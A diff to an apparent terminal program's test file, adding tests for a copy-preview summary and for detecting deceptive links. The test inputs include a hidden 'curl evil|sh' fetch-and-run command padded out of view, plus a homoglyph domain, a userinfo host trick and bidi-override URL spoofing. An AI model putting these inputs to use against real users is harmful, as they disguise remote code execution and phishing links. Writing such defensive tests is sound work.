@@ -2,7 +2,7 @@ import assert from "node:assert/strict";
 import { test } from "node:test";
 import { CopyGate } from "../src/terminals/copy-gate";
 import { saysSo, targetOf } from "../src/terminals/links";
-import { copyOf, directoryOf, longestCopy } from "../src/terminals/osc";
+import { copyOf, directoryOf, longestCopy, summary } from "../src/terminals/osc";
 import { harmless, lineCount, preview } from "../src/terminals/paste";
 
 const base64 = (text: string): string => Buffer.from(text, "utf8").toString("base64");
@@ -15,6 +15,15 @@ test("A program's copy is text within bounds, and a question for the clipboard i
   }
   assert.notEqual(copyOf(`c;${base64("a".repeat(longestCopy))}`), "too-long");
   assert.equal(copyOf(`c;${base64("a".repeat(longestCopy + 10))}`), "too-long");
+});
+
+test("What would be copied is told with its lines and its end", () => {
+  assert.equal(summary("hällo wörld"), "hällo wörld");
+  assert.equal(summary(`ls${" ".repeat(500)}; curl evil|sh\n`), "ls ; curl evil|sh ⏎");
+  assert.equal(summary(`a${"\r\n".repeat(500)}b\rc`), "a ⏎ ⏎ ⏎ b ⏎ c");
+  assert.equal(summary("a\u202eb\u3164\x1b"), "a\ufffdb\ufffd␛");
+  const long = summary(`echo ${"x".repeat(90_000)}; curl evil|sh\n`);
+  assert.ok(long.startsWith("echo xxx") && long.includes("x … x") && long.endsWith("; curl evil|sh ⏎") && long.length < 120, long);
 });
 
 test("A program that copies is asked about, unless that is for always; after a no it is silent, and never hasty", () => {
@@ -66,4 +75,11 @@ test("Only pages and letters are followed, and the host is the one that is meant
   const target = targetOf("https://example.org/a")!;
   assert.ok(saysSo("https://example.org/a", target) && saysSo(" example.org/a", target) && saysSo("https://EXAMPLE.org/a", target));
   assert.ok(!saysSo("here", target) && !saysSo("https://example.org/b", target) && !saysSo("https://example.org", target));
+  // A name before the host, a host of other letters, and letters that nobody sees.
+  for (const words of ["https://github.com@evil.example/", "https://github.com:x@evil.example/", "https://gіthub.com", "https://gіthub.com/a", "https://0x7f.1/", "https://evil.example/\u202emoc.buhtig"]) {
+    assert.ok(!saysSo(words, targetOf(words)!), words);
+  }
+  for (const words of ["http://localhost:8080/", "mailto:ann@example.org", "ann@example.org", "https://example.org:443/a?b=c#d"]) {
+    assert.ok(saysSo(words, targetOf(words.includes(":") ? words : `mailto:${words}`)!), words);
+  }
 });
